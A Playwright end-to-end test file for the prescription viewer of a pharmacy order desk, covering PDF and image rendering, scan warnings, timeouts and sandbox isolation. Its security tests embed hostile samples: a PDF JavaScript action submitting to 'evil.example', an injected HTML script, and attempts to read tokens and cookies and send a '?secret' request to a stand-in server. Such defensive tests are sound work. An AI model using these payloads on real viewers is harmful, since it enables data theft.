import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { type CounterPage, drawnFrame, press, showOrder } from '../../support/counter/counter-page.ts';
import { type CounterWorld, NOON, openCounterWorld } from '../../support/counter/counter-world.ts';
import { placeOrder } from '../../support/counter/placed-orders.ts';
import { BLUE, drawnPdf, endlessPdf, PNG, RED, scannedPdf } from '../../support/counter/prescription-files.ts';
import { forceStored, getStoredOrder } from '../../support/orders/forced-order.ts';
import { openServer, type TestServer } from '../../support/servers/test-server.ts';

let world: CounterWorld<TestServer>;
let server: TestServer;
/** The page of the cases that leave it as they found it. */
let desk: CounterPage;
beforeAll(async () => {
  world = await openCounterWorld(openServer, NOON);
  server = world.server;
  desk = await world.open();
});
afterAll(() => world.close());

/** Shows a new order with this document. */
const openOrderWith = async (file: Buffer, shown = desk): Promise<CounterPage> =>
  showOrder(shown, await placeOrder(server, [file]));

/** Gives the page this in place of every document, until the case is over. */
async function replaceDocuments(body: Buffer): Promise<void> {
  await desk.page.route('**/documents/**', (route) => route.fulfill({ body, contentType: 'text/html' }));
  onTestFinished(() => desk.page.unrouteAll());
}

/** Returns red, green and blue in the middle of what is drawn, and whether it is wide or high. */
const middleOf = (frame: Frame): Promise<readonly [string, string]> =>
  frame.evaluate(`(() => {
    const canvas = document.querySelector('canvas');
    const { width, height } = canvas;
    const copy = new OffscreenCanvas(1, 1).getContext('2d');
    copy.drawImage(canvas, -width / 2, -height / 2);
    const { data } = copy.getImageData(0, 0, 1, 1);
    return [data.slice(0, 3).join(' '), width > height ? 'wide' : 'high'];
  })()`);

describe('the document of a prescription', () => {
  it('is drawn page by page if it is a PDF, by keys', async () => {
    const { page } = await openOrderWith(drawnPdf([BLUE, RED]));
    const frame = await drawnFrame(page, 'página 1 de 2');
    expect(await middleOf(frame)).toEqual(['0 0 255', 'high']);
    await press(page, 'ArrowRight');
    await drawnFrame(page, 'página 2 de 2');
    await expect.poll(() => middleOf(frame)).toEqual(['255 0 0', 'high']);
    await press(page, 'r');
    await expect.poll(() => middleOf(frame)).toEqual(['255 0 0', 'wide']);
    await press(page, '+');
    await expect.poll(() => frame.evaluate(`document.querySelector('canvas').style.width`)).toBe('150%');
  });

  it('is shown as not looked into if the check of its upload could not open it', async () => {
    const objects =
      '9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/LZWDecode/Length 1>>\nstream\nx\nendstream\nendobj\n%%EOF\n';
    const { page } = await openOrderWith(Buffer.concat([drawnPdf([BLUE]), Buffer.from(objects)]));
    await page.getByText('Documento protegido, sin revisar.').waitFor();
    await openOrderWith(drawnPdf([BLUE]));
    await page.getByText('Documento protegido, sin revisar.').waitFor({ state: 'detached' });
  });

  it('says what an antivirus found in it, and is not drawn then', async () => {
    const id = await placeOrder(server, [drawnPdf([BLUE])]);
    const { prescriptions } = await getStoredOrder(id);
    const scan = (scan: 'pending' | 'threat') =>
      forceStored(id, { prescriptions: prescriptions.map((each) => ({ ...each, scan })) });
    await scan('pending');
    const { page } = await showOrder(desk, id);
    await page.getByText('sin revisar todavía').waitFor();
    await drawnFrame(page, 'página 1 de 1');
    await scan('threat');
    await showOrder(desk, await placeOrder(server));
    await showOrder(desk, id);
    await page.getByText('tiene software malicioso y no se puede abrir').waitFor();
    expect(await page.locator('.viewer').count()).toBe(0);
  });

  it('is drawn if it is a picture', async () => {
    const { page } = await openOrderWith(PNG);
    const frame = await drawnFrame(page, 'página 1 de 1');
    expect(await middleOf(frame)).toEqual(['200 30 30', 'wide']);
    await press(page, 'r');
    await expect.poll(() => middleOf(frame)).toEqual(['200 30 30', 'high']);
  });

  it.each([
    ['a page of HTML', '<script>parent.document.title = "in"</script>'],
    ['a PDF that is cut off', '%PDF-1.4\n1 0 obj<</Type/Cat'],
  ])('says so if it cannot be drawn: %s', async (_, document) => {
    await replaceDocuments(Buffer.from(document, 'latin1'));
    const { page } = await openOrderWith(drawnPdf([BLUE]));
    await page.getByRole('alert').getByText('El documento no se puede mostrar').waitFor();
    expect(await page.title()).toMatch(/^Orden RX-\d{8} · Botica$/);
  });

  it('is asked for again by a button, after it could not be read', async () => {
    const { page, takeComplaints } = desk;
    const json = { code: 'failed', text: 'S3 no responde.' };
    await page.route('**/documents/**', (route) => route.fulfill({ status: 500, json }), { times: 1 });
    await openOrderWith(drawnPdf([BLUE]));
    await page.getByRole('alert').getByText('S3 no responde.').waitFor();
    await page.getByRole('button', { name: 'Intentar de nuevo' }).click();
    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 255', 'high']);
    expect(await page.getByRole('alert').count()).toBe(0);
    expect(takeComplaints()).toEqual([expect.stringContaining('responded with a status of 500 ')]);
  });

  it('is never blank because its scan could not be decoded', async () => {
    const { page } = await openOrderWith(scannedPdf('CCITTFaxDecode'));
    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 0', 'high']);
    await press(page, '+', 'r');
    await expect.poll(async () => middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 0', 'wide']);
    const undecodable = await openOrderWith(scannedPdf('JPXDecode'));
    await undecodable.page.getByText('El documento no se puede mostrar').waitFor();
  });

  it('shows its other pages if one of them cannot be drawn', async () => {
    const { page } = await openOrderWith(scannedPdf('CCITTFaxDecode', 'JPXDecode'));
    const frame = await drawnFrame(page, 'página 1 de 2');
    await press(page, 'ArrowRight');
    await page.getByText('Esta página no se puede mostrar').waitFor();
    expect(await frame.locator('canvas').count()).toBe(0);
    await press(page, 'ArrowLeft');
    expect(await middleOf(await drawnFrame(page, 'página 1 de 2'))).toEqual(['0 0 0', 'high']);
    await page.getByText('Esta página no se puede mostrar').waitFor({ state: 'detached' });
  });

  it('is given up if it takes too long, while the page goes on', async () => {
    const { page, close } = await openOrderWith(endlessPdf(), await world.open());
    await page.getByText('Página 1 de 1').waitFor();
    // From here on seconds pass ten times as fast in the page, which counts them anew for each drawing.
    await page.evaluate('{ const real = setTimeout; window.setTimeout = (run, ms) => real(run, ms / 10); }');
    await press(page, 'r', 'x');
    await page.getByRole('dialog', { name: 'Rechazar receta' }).waitFor();
    await page.getByText('El documento no se puede mostrar').waitFor();
    expect(page.frames()).toHaveLength(1);
    await close();
  });

  it('is not given up while its tab is hidden, in which a browser draws nothing', async () => {
    const own = await world.open();
    const { page } = own;
    // From here on seconds pass a hundred times as fast in the page.
    await page.evaluate('window.real = setTimeout; window.setTimeout = (run, ms) => real(run, ms / 100);');
    const arrived = Promise.withResolvers<void>();
    await page.route('**/viewer.js', (route) => arrived.promise.then(() => route.continue()));
    const see = (state: string) =>
      page.evaluate(`{
        Object.defineProperty(document, 'visibilityState', { configurable: true, value: '${state}' });
        document.dispatchEvent(new Event('visibilitychange'));
      }`);
    await see('hidden');
    await openOrderWith(drawnPdf([BLUE]), own);
    await page.evaluate('new Promise((resolve) => setTimeout(resolve, 40_000))');
    expect(await page.getByRole('alert').count()).toBe(0);
    await see('visible');
    await page.getByRole('alert').getByText('tardó demasiado').waitFor();
    arrived.resolve();
    await page.evaluate('window.setTimeout = real');
    await page.getByRole('button', { name: 'Intentar de nuevo' }).click();
    await drawnFrame(page, 'página 1 de 1');
  });

  it('runs nothing of a PDF', async () => {
    const script = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\))>>';
    await replaceDocuments(drawnPdf([RED], script));
    const { page } = await openOrderWith(drawnPdf([BLUE]));
    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['255 0 0', 'high']);
  });

  it('could reach neither the page nor anybody else, whatever it ran', async () => {
    const shown = await openOrderWith(drawnPdf([BLUE]), await world.open());
    const frame = await drawnFrame(shown.page, 'página 1 de 1');
    let reached = 0;
    const stranger = createServer((_, response) => response.end(String(++reached))).listen(0, '127.0.0.1');
    await once(stranger, 'listening');
    const elsewhere = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}/`;
    const load = (what: string, address: string) =>
      `new Promise((done, fail) => Object.assign(${what}, { onload: done, onerror: () => fail(new Error()), src: '${address}' }))`;
    const attempts = [
      ['parent.document.title', 'SecurityError'],
      [`sessionStorage.getItem('token')`, 'SecurityError'],
      ['document.cookie', 'SecurityError'],
      [`fetch('/session')`, 'TypeError'],
      [`fetch('${elsewhere}')`, 'TypeError'],
      [load(`new Worker('/viewer.js')`, ''), 'TypeError'],
      [`top.location = '${elsewhere}'`, 'SecurityError'],
      [load('new Image()', elsewhere), 'Error'],
    ] as const;
    for (const [attempt, error] of attempts) {
      const came = `(async () => ${attempt})().then(() => 'done', (error) => error.name)`;
      expect([attempt, await frame.evaluate(came)]).toEqual([attempt, error]);
    }
    expect(await frame.evaluate('self.origin')).toBe('null');
    await frame.evaluate(`void (location.href = '${elsewhere}?secret')`);
    const said: string[] = [];
    const reasons = ["connect-src 'none'", 'TrustedScriptURL', 'sandboxed', "'img-src' was not", "frame-src 'self'"];
    for (const reason of reasons) {
      await expect.poll(() => said.push(...shown.takeComplaints()) && said.join('\n')).toContain(reason);
    }
    // A request that was blocked is told too.
    const BLOCKED = /Security Policy|TrustedScriptURL|window is sandboxed|^request to /;
    expect(said.filter((line) => !BLOCKED.test(line))).toEqual([]);
    expect(reached).toBe(0);
    stranger.close();
    // The browser says twice of some attempts that it blocked them, the second time when it likes.
    await shown.page.close();
    shown.takeComplaints();
  });
});
